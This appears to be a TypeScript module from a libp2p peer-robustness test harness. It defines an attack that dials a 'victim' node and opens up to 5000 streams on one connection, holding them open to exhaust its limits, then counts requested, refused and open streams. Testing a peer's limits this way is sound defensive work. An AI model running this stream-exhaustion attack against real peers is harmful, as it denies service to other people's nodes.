/** Attacks with streams of a connection. */
import type { Stream } from '@libp2p/interface'
import { type Attack, over, textOf } from '../attack.ts'
import { dial, openLiar, openStream } from '../liar.ts'

/** More than any peer may open. */
const MOST_STREAMS = 5000

/** Opens streams of `protocol` on one connection until none more is given, and keeps them. */
export async function openStreams (attack: Attack): Promise<void> {
  const protocol = textOf(attack, 'protocol')
  const liar = await openLiar()
  const connection = await dial(liar, attack.victim, attack.signal)
  attack.inPosition()
  const streams: Stream[] = []
  try {
    while (streams.length < MOST_STREAMS && !attack.signal.aborted) {
      streams.push(await openStream(connection, protocol, attack.signal))
      attack.count('asked')
    }
  } catch {
    attack.count('refused')
  }
  await over(attack)
  attack.count('open', streams.filter(({ status }) => status === 'open').length)
}
